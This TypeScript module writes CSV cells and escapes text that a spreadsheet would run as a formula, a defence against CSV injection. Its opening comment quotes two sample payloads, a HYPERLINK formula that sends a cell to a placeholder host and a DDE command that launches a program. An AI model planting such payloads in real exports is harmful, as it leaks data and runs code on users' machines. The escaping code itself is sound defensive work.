// CSV as the app writes it, in one place. A spreadsheet opening a CSV runs any cell that starts with = + - @ (and,
// in some versions, a tab or carriage return before them) as a formula: a unit named `=HYPERLINK("http://x/?"&A1)`
// would send a report's figures away, `+cmd|' /C calc'!A0` start a program (OWASP "CSV injection"). Such text cells
// get a leading apostrophe, which spreadsheets show as text; numbers are written as numbers.

/** Text that a spreadsheet would read as the start of a formula. */
export const FORMULA_START = /^[=+\-@\t\r]/

export function startsLikeFormula(text: string) {
	return FORMULA_START.test(text)
}

/** One cell: neutralised when it starts like a formula, quoted when it holds a quote, comma, or line break. */
export function csvCell(value: string | number | null | undefined) {
	if (value === null || value === undefined) return ''
	if (typeof value === 'number') return String(value)
	const text = startsLikeFormula(value) ? `'${value}` : value
	return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text
}

/** One line of cells. */
export function csvLine(values: ReadonlyArray<string | number | null | undefined>) {
	return values.map(csvCell).join(',')
}
